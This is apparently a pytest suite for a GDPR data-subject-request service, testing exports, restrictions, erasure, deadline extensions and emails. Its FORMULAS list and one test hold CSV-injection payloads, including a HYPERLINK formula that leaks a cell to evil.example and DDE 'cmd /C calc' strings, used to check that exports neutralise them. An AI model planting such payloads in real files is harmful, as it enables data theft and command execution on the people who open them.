"""Every GDPR right end to end: portal request → verification → officer → execution → client's email."""
import csv
import datetime as dt
import io
import json
import zipfile

import boto3
import pytest

from chalicelib import clock, exports


def execute(api, team, request_id, **extra):
    """POST execute (202), then the worker carries it out."""
    answer = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/execute", {"confirm": True, **extra},
                      token=team.token)
    api.work()
    return answer


def executed(api, team, request_id, **extra) -> dict:
    """The request once executed and carried out."""
    assert execute(api, team, request_id, **extra).status_code == 202
    return api.request_view(team, request_id)


def follow_export(api, address):
    link = api.last_link_to(address, "/portal/privacy/exports/")
    assert api.get(link).status_code == 200  # the page with the download button
    answer = api.get(f"{link}?download=1")
    assert answer.status_code == 302
    location = answer.headers["Location"]
    bucket, key = location.split("//", 1)[1].split(".s3", 1)[0], location.split("amazonaws.com/", 1)[1].split("?")[0]
    body = boto3.client("s3").get_object(Bucket=bucket, Key=key)["Body"].read()
    return zipfile.ZipFile(io.BytesIO(body))


def test_access_export_holds_every_dossier_of_the_client_with_art15_information(api, team):
    api.patch(f"/teams/{team.id}/privacy/settings", {"processing_purposes": "Onboarding",
                                                     "retention_period": "5 years"}, token=team.token)
    first = api.new_dossier(team, "alice@client.example", title="Mortgage")
    second = api.new_dossier(team, "alice@client.example", title="Insurance")
    api.add_document(team, first["dossier_id"], b"scan-bytes", "id.pdf")
    api.new_dossier(team, "bob@client.example", title="Not hers")
    request_id = api.verified_request(team, "alice@client.example", "access")

    done = executed(api, team, request_id)
    assert done["result"]["dossiers"] == 2
    api.pump()

    archive = follow_export(api, "alice@client.example")
    data = json.loads(archive.read("data.json"))
    assert {d["dossier_id"] for d in data["dossiers"]} == {first["dossier_id"], second["dossier_id"]}
    assert data["information"]["purposes"] == "Onboarding"
    assert data["information"]["retention_period"] == "5 years"
    doc = [d for d in data["dossiers"] if d["dossier_id"] == first["dossier_id"]][0]["documents"][0]
    assert archive.read(doc["path"]) == b"scan-bytes"
    assert "Mortgage" in archive.read("data.csv").decode()


def test_the_access_exports_information_is_written_in_the_clients_language(api, team):
    import gettext

    from chalicelib import templating

    api.patch(f"/teams/{team.id}/privacy/settings", {"retention_period": "5 ans"}, token=team.token)
    api.new_dossier(team, "alice@client.example", title="Mortgage")
    request_id = api.verified_request(team, "alice@client.example", "access", locale="fr")
    executed(api, team, request_id)
    api.pump()
    information = follow_export(api, "alice@client.example").read("information.txt").decode()
    french = gettext.translation("messages", templating.CATALOGS, languages=["fr"])
    assert french.gettext("How long it is kept:") in information and "5 ans" in information
    assert "How long it is kept:" not in information


# What a spreadsheet would run as a formula when it opens data.csv (OWASP "CSV injection").
FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def csv_rows(entries: list[dict]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(exports._csv(entries))))


@pytest.mark.parametrize("payload", FORMULAS)
def test_export_csv_quotes_out_formulas_in_titles_field_names_and_values(payload):
    rows = csv_rows([{"dossier_id": "d_1", "title": payload, "created_at": "2026-01-01T00:00:00Z",
                      "fields": {payload: payload}}])
    _, title, _, name, value = rows[1]
    assert title == name == value == "'" + payload


def test_export_csv_leaves_ordinary_cells_as_they_are():
    rows = csv_rows([{"dossier_id": "d_1", "title": "Mortgage – Zoë", "created_at": "2026-01-01T00:00:00Z",
                      "fields": {"phone": "06 12 34 56 78", "note": "a=b, c+d", "count": 3}}])
    assert rows[1:] == [["d_1", "Mortgage – Zoë", "2026-01-01T00:00:00Z", "phone", "06 12 34 56 78"],
                        ["d_1", "Mortgage – Zoë", "2026-01-01T00:00:00Z", "note", "a=b, c+d"],
                        ["d_1", "Mortgage – Zoë", "2026-01-01T00:00:00Z", "count", "3"]]


def test_access_export_csv_is_inert_while_data_json_keeps_the_exact_text(api, team):
    title, name, value = '=HYPERLINK("https://evil.example","x")', "@SUM(A1)", "+cmd|' /C calc'!A0"
    api.new_dossier(team, "alice@client.example", title=title, fields={name: value})
    request_id = api.verified_request(team, "alice@client.example", "access")
    assert execute(api, team, request_id).status_code == 202
    api.pump()
    archive = follow_export(api, "alice@client.example")
    dossier = json.loads(archive.read("data.json"))["dossiers"][0]
    assert dossier["title"] == title and dossier["fields"] == {name: value}
    row = list(csv.reader(io.StringIO(archive.read("data.csv").decode())))[1]
    assert row[1] == "'" + title and row[3:] == ["'" + name, "'" + value]


def test_portability_export_has_no_art15_section_but_the_same_data(api, team):
    api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "portability")
    assert execute(api, team, request_id).status_code == 202
    api.pump()
    data = json.loads(follow_export(api, "alice@client.example").read("data.json"))
    assert "information" not in data and len(data["dossiers"]) == 1


def test_export_object_is_encrypted_at_rest(api, team):
    api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "access")
    execute(api, team, request_id)
    head = boto3.client("s3").head_object(Bucket="privacy-desk-local-documents",
                                          Key=f"exports/{team.id}/{request_id}.zip")
    assert head["ServerSideEncryption"] == "AES256"


def test_export_link_after_30_days_shows_an_expired_page_not_s3_xml(api, team, monkeypatch):
    api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "access")
    execute(api, team, request_id)
    api.pump()
    link = api.last_link_to("alice@client.example", "/portal/privacy/exports/")
    later = clock.now() + dt.timedelta(days=31)
    monkeypatch.setattr("jwt.api_jwt.datetime", _FrozenDatetime(later))
    answer = api.get(link)
    assert answer.status_code == 410
    assert "text/html" in answer.headers["Content-Type"]
    assert b"<?xml" not in answer.body


class _FrozenDatetime:
    """Stands in for the datetime module inside PyJWT so expiry is judged at a chosen time."""

    def __init__(self, moment):
        self._moment = moment

    def __getattr__(self, name):
        return getattr(dt.datetime, name)

    def now(self, tz=None):
        return self._moment


def test_rectification_completes_with_a_note_the_client_receives(api, team):
    dossier = api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "rectification",
                                      message="My name is misspelled")
    fixed = api.patch(f"/teams/{team.id}/dossiers/{dossier['dossier_id']}", {"fields": {"name": "Alice"}},
                      token=team.token)
    assert fixed.status_code == 200
    assert execute(api, team, request_id).status_code == 400  # a note is required
    done = executed(api, team, request_id, note="Your name is now spelled Alice.")
    assert done["status"] == "completed"
    api.pump()
    assert any("Your name is now spelled Alice." in m["text"] for m in api.mail_to("alice@client.example"))


def test_restriction_refuses_writes_until_lifted_and_tells_the_client(api, team):
    dossier = api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "restriction")
    assert executed(api, team, request_id)["result"] == {"dossiers_restricted": 1}
    path = f"/teams/{team.id}/dossiers/{dossier['dossier_id']}"
    assert api.patch(path, {"title": "x"}, token=team.token).status_code == 409
    assert api.post(path + "/documents", {"filename": "a.pdf", "content_base64": ""},
                    token=team.token).status_code == 409
    assert api.get(path, token=team.token).json_body["restricted"] is True
    api.pump()
    before = len(api.mail_to("alice@client.example"))

    lifted = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/lift-restriction", token=team.token)
    assert lifted.status_code == 200, lifted.body
    assert api.patch(path, {"title": "x"}, token=team.token).status_code == 200
    api.pump()
    assert len(api.mail_to("alice@client.example")) == before + 1
    again = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/lift-restriction", token=team.token)
    assert again.status_code == 409


def test_objection_is_recorded_on_existing_and_future_dossiers(api, team):
    api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "objection")
    assert execute(api, team, request_id).status_code == 202
    later = api.new_dossier(team, "alice@client.example")
    assert later["objection"]["request_id"] == request_id
    listed = api.get(f"/teams/{team.id}/dossiers?client_email=alice@client.example", token=team.token).json_body
    assert all(d["objection"] for d in listed["items"]) and len(listed["items"]) == 2
    assert api.new_dossier(team, "bob@client.example")["objection"] is None


def test_consent_withdrawal_stamps_consent_records_and_tells_the_officer(api, team):
    api.patch(f"/teams/{team.id}/privacy/settings", {"consent_capture_enabled": True, "consent_text": "OK"},
              token=team.token)
    dossier = api.new_dossier(team, "alice@client.example", consent={"accepted": True})
    answer = api.post(f"/portal/{team.id}/privacy/consent/withdraw", {"email": "alice@client.example"})
    assert answer.status_code == 202
    api.pump()
    assert api.get(f"/teams/{team.id}/dossiers/{dossier['dossier_id']}",
                   token=team.token).json_body["consent"]["withdrawn_at"] is None  # not before verification
    link = api.last_link_to("alice@client.example", "/portal/privacy/verify/")
    assert api.get(link).status_code == 200
    api.pump()
    consent = api.get(f"/teams/{team.id}/dossiers/{dossier['dossier_id']}", token=team.token).json_body["consent"]
    assert consent["withdrawn_at"] is not None and consent["version"] == 1
    assert len(api.mail_to(team.admin_email)) == 1


def test_client_gets_a_receipt_with_a_status_link_and_can_cancel(api, team):
    request_id = api.verified_request(team, "alice@client.example", "erasure")
    link = api.last_link_to("alice@client.example", f"/portal/privacy/requests/{request_id}")
    status = api.get(link)
    assert status.status_code == 200 and status.json_body["status"] == "pending"
    token = link.split("token=")[1]
    cancelled = api.post(f"/portal/privacy/requests/{request_id}/cancel?token={token}", {})
    assert cancelled.status_code == 200 and cancelled.json_body["status"] == "cancelled"
    assert execute(api, team, request_id).status_code == 409
    api.pump()
    assert any("cancel" in m["subject"].lower() or "annul" in m["subject"].lower()
               for m in api.mail_to(team.admin_email))


def test_status_link_of_one_request_does_not_open_another(api, team):
    first = api.verified_request(team, "alice@client.example", "erasure")
    other = api.verified_request(team, "alice@client.example", "access")
    token = api.last_link_to("alice@client.example", f"/portal/privacy/requests/{first}").split("token=")[1]
    assert api.get(f"/portal/privacy/requests/{other}?token={token}").status_code == 401


def test_deny_gives_the_reason_and_the_right_to_complain(api, team):
    api.patch(f"/teams/{team.id}/privacy/settings", {"supervisory_authority": "CNIL, www.cnil.fr"},
              token=team.token)
    request_id = api.verified_request(team, "alice@client.example", "erasure")
    denied = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/deny", {"reason": "Legal hold"},
                      token=team.token)
    assert denied.json_body["status"] == "denied"
    api.pump()
    notice = api.mail_to("alice@client.example")[-1]
    assert "Legal hold" in notice["text"] and "CNIL, www.cnil.fr" in notice["text"]


def test_extension_moves_due_date_from_the_day_received_and_emails_the_client(api, team):
    request_id = api.verified_request(team, "alice@client.example", "access")
    received = clock.parse(api.get(f"/teams/{team.id}/privacy/requests/{request_id}",
                                   token=team.token).json_body["received_at"])
    answer = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/extend",
                      {"months": 2, "reason": "Many dossiers"}, token=team.token)
    assert answer.status_code == 200, answer.body
    assert answer.json_body["due_at"] == clock.iso(clock.add_months(received, 3))
    api.pump()
    assert "Many dossiers" in api.mail_to("alice@client.example")[-1]["text"]


def test_extensions_total_at_most_two_months(api, team):
    request_id = api.verified_request(team, "alice@client.example", "access")
    path = f"/teams/{team.id}/privacy/requests/{request_id}/extend"
    assert api.post(path, {"months": 1, "reason": "a"}, token=team.token).status_code == 200
    assert api.post(path, {"months": 2, "reason": "b"}, token=team.token).status_code == 409
    assert api.post(path, {"months": 1, "reason": "c"}, token=team.token).status_code == 200
    assert api.post(path, {"months": 3, "reason": "d"}, token=team.token).status_code == 400


@pytest.mark.parametrize("offset, allowed", [(dt.timedelta(seconds=-1), True), (dt.timedelta(0), False)])
def test_extension_only_before_the_original_due_date(api, team, monkeypatch, offset, allowed):
    request_id = api.verified_request(team, "alice@client.example", "access")
    due = clock.parse(api.get(f"/teams/{team.id}/privacy/requests/{request_id}", token=team.token).json_body["due_at"])
    monkeypatch.setattr(clock, "now", lambda: due + offset)
    answer = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/extend", {"months": 1, "reason": "r"},
                      token=team.token)
    assert (answer.status_code == 200) is allowed


def test_lists_filter_overdue_and_due_before_and_sort_by_due(api, team, monkeypatch):
    early = api.verified_request(team, "a@client.example", "access")
    late = api.verified_request(team, "b@client.example", "access")
    api.post(f"/teams/{team.id}/privacy/requests/{late}/extend", {"months": 1, "reason": "r"}, token=team.token)
    by_due = api.get(f"/teams/{team.id}/privacy/requests?sort=due_at", token=team.token).json_body["items"]
    assert [r["request_id"] for r in by_due] == [early, late]
    real_now = clock.now()
    monkeypatch.setattr(clock, "now", lambda: real_now + dt.timedelta(days=40))
    overdue = api.get(f"/teams/{team.id}/privacy/requests?overdue=true", token=team.token).json_body["items"]
    assert [r["request_id"] for r in overdue] == [early]
    cutoff = clock.iso(real_now + dt.timedelta(days=35))
    soon = api.get(f"/teams/{team.id}/privacy/requests?due_before={cutoff}", token=team.token).json_body["items"]
    assert [r["request_id"] for r in soon] == [early]


def test_daily_reminder_emails_the_officer_once_when_due_soon_and_once_when_overdue(api, team, monkeypatch):
    from chalicelib import reminders

    api.verified_request(team, "alice@client.example", "erasure")
    base = len(api.mail_to(team.admin_email))
    assert reminders.run()["officer_reminder"] == 0  # a month away
    real_now = clock.now()
    in_25_days = real_now + dt.timedelta(days=25)
    assert reminders.run(in_25_days)["officer_reminder"] == 1
    assert reminders.run(in_25_days)["officer_reminder"] == 0
    assert reminders.run(real_now + dt.timedelta(days=32))["officer_overdue"] == 1
    assert reminders.run(real_now + dt.timedelta(days=33))["officer_overdue"] == 0
    assert len(api.mail_to(team.admin_email)) == base + 2


def test_team_locale_french_sends_french_emails_and_a_request_locale_overrides_it(api, team):
    api.patch(f"/teams/{team.id}/privacy/settings", {"locale": "fr"}, token=team.token)
    api.submit(team, "alice@client.example")
    api.submit(team, "bob@client.example", locale="en")
    api.pump()
    french = api.mail_to("alice@client.example")[-1]
    english = api.mail_to("bob@client.example")[-1]
    assert french["subject"] != english["subject"]
    assert "Confirm" in english["subject"]


def test_client_is_told_before_a_restriction_is_lifted_and_nothing_lifts_if_the_email_fails(api, team,
                                                                                          monkeypatch):
    from botocore.exceptions import ClientError

    from chalicelib import mailer

    dossier = api.new_dossier(team, "alice@client.example")
    request_id = api.verified_request(team, "alice@client.example", "restriction")
    execute(api, team, request_id)
    real_send = mailer.send
    monkeypatch.setattr(mailer, "send", lambda *a, **k: (_ for _ in ()).throw(
        ClientError({"Error": {"Code": "Throttling", "Message": "slow down"}}, "SendRawEmail")))
    refused = api.post(f"/teams/{team.id}/privacy/requests/{request_id}/lift-restriction", token=team.token)
    assert refused.status_code == 503
    path = f"/teams/{team.id}/dossiers/{dossier['dossier_id']}"
    assert api.get(path, token=team.token).json_body["restricted"] is True
    monkeypatch.setattr(mailer, "send", real_send)
    assert api.post(f"/teams/{team.id}/privacy/requests/{request_id}/lift-restriction",
                    token=team.token).status_code == 200
    assert "about to be lifted" in api.mail_to("alice@client.example")[-1]["text"]
    assert api.get(path, token=team.token).json_body["restricted"] is False


def test_erasure_also_deletes_the_clients_earlier_export_and_kills_its_link(api, team):
    dossier = api.new_dossier(team, "alice@client.example")
    api.add_document(team, dossier["dossier_id"], b"payslip")
    access = api.verified_request(team, "alice@client.example", "access")
    execute(api, team, access)
    api.pump()
    link = api.last_link_to("alice@client.example", "/portal/privacy/exports/")
    assert api.get(f"{link}?download=1").status_code == 302
    erasure = api.verified_request(team, "alice@client.example", "erasure")
    done = executed(api, team, erasure)
    assert done["result"]["exports_deleted"] == 1
    answer = api.get(link)
    assert answer.status_code == 410 and "text/html" in answer.headers["Content-Type"]
    keys = boto3.client("s3").list_objects_v2(Bucket="privacy-desk-local-documents").get("Contents", [])
    assert keys == []


def test_a_request_keeps_a_history_of_who_did_what_and_when(api, team):
    request_id = api.verified_request(team, "alice@client.example", "access")
    api.post(f"/teams/{team.id}/privacy/requests/{request_id}/extend", {"months": 1, "reason": "busy"},
             token=team.token)
    done = executed(api, team, request_id)
    client, admin = {"kind": "client", "id": None}, {"kind": "member", "id": team.admin_id}
    assert [(h["event"], h["by"]) for h in done["history"]] == [
        ("received", client), ("verified", client), ("extended", admin), ("execution_started", admin),
        ("completed", admin)]
    assert done["history"][2]["months"] == 1
